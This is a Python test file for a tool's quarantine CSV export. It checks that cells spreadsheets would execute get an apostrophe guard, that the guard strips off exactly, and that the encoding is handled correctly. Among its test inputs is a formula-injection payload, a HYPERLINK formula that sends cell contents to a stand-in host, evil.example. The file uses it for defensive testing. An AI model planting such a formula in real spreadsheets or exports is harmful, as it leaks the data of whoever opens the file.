"""What stands in a quarantine file: a line for each row, which a spreadsheet shows as it is."""

import csv
import io
import re

import polars as pl
import pytest

from exchanger.profiles.frames.wrapped_text import without_guard
from exchanger.state.runs.quarantine import QUARANTINE, to_csv


def lines(body):
    """Read a quarantine file as programs do."""
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def row(number=1, **cells):
    named = {"row_id": f"v1/{number}", "file": "in/a.csv", "row": number, "kind": "rejected"}
    return named | cells


def frame(*rows):
    return pl.DataFrame(list(rows), schema=QUARANTINE)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+33612345679",
        "-5",
        "-",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20x",
        "'=A1",
        "''+1",
        "'\t1",
    ],
)
def test_no_cell_runs_in_a_spreadsheet_and_each_reads_back(text):
    """An apostrophe stands in front of what would run, and taking it away is exact."""
    body = to_csv(frame(row(profile=text, value=text, field=text, message=text, record=text)))

    (told,) = lines(body)
    for name in ("profile", "value", "field", "message", "record"):
        assert told[name].startswith("'")
        assert text == re.sub(r"^'(?='*[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20])", "", told[name])
        assert text == without_guard(pl.Series([told[name]])).item()


@pytest.mark.parametrize(
    "text", ["'s-Hertogenbosch", "'tis", "'", "a=1", "1-2", " x", '{"a": "=1"}', "x\r\n=1", "日本"]
)
def test_all_else_stands_as_it_is(text):
    """Nothing is put before a cell that no spreadsheet runs."""
    body = to_csv(frame(row(profile=text, value=text, record=text)))

    (told,) = lines(body)
    assert [text] * 3 == [told[name] for name in ("profile", "value", "record")]


def test_a_row_with_several_faults_is_one_line():
    """Its faults are joined in the same order in each column, and its record stands there once."""
    record = '{"id":"a","age":"=x"}'
    faults = [
        {"field": "score", "value": "much", "reason": "not_a_number", "message": "No number."},
        {"field": "age", "value": "=x", "reason": "not_an_integer", "message": "Not whole."},
        {"reason": "ragged_row", "message": "Ragged."},
    ]
    rows = [row(7, **fault, record=record) for fault in faults]

    body = to_csv(frame(row(8, reason="no_identifier", record="{}"), *rows))

    seven, eight = lines(body)
    assert 3 == body.count(b"\n")
    assert {
        **row(7, row="7", profile="", record=record),
        "field": "age | score | ",
        "value": "'=x | much | ",
        "reason": "not_an_integer | not_a_number | ragged_row",
        "message": "Not whole. | No number. | Ragged.",
    } == seven
    assert ("8", "", "", "no_identifier", "") == tuple(
        eight[name] for name in ("row", "field", "value", "reason", "message")
    )


def test_rows_of_one_number_that_are_not_the_same_stay_apart():
    """Rows of other files, of other versions, and of runs that owe them are lines of their own."""
    others = [{"file": "in/b.csv"}, {"row_id": "v2/1"}, {"row_id": "run-3/1"}, {"kind": "refused"}]

    body = to_csv(frame(row(), *(row(**other) for other in others)))

    assert 5 == len(lines(body))


def test_the_file_says_that_it_is_utf_8():
    """A byte order mark begins the file, and only the file: spreadsheets guess wrong without it."""
    first, further = to_csv(frame(row())), to_csv(frame(row(2)), header=False)

    assert (1, True) == (first.count(b"\xef\xbb\xbf"), first.startswith(b"\xef\xbb\xbf"))
    assert 0 == further.count(b"\xef\xbb\xbf")
